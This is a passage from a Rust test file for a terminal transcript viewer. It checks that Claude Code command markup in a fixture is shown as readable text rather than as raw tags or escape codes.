    };
    assert_ne!(status.code(), Some(0), "{status:?}");
}

#[test]
fn claude_code_markup_was_shown_raw_in_the_chat() {
    let mut s = Screen::open(&fixture("claude/commands.jsonl"), None);
    let mut screens = vec![s.text()];
    // The path's chat, folds opened.
    screens.push(s.press("Tab Enter"));
    for screen in &screens {
        sg::assert_safe_text("the screen", screen);
        assert_fits(screen);
    }
    let all = screens.join("\n");
    for shown in [
        "/model opus",
        "! uv run ty check",
        "Kept model as Default (recommended)",
        "All checks passed!",
        "task b1f3 completed",
        "context: system-reminder",
    ] {
        assert!(all.contains(shown), "{shown:?} in\n{all}");
    }
    for raw in [
        "<command-name>",
        "<local-command",
        "<bash-",
        "<task-",
        "[1m",
    ] {
        assert!(!all.contains(raw), "{raw:?} in\n{all}");
    }
    s.check("markup");
}
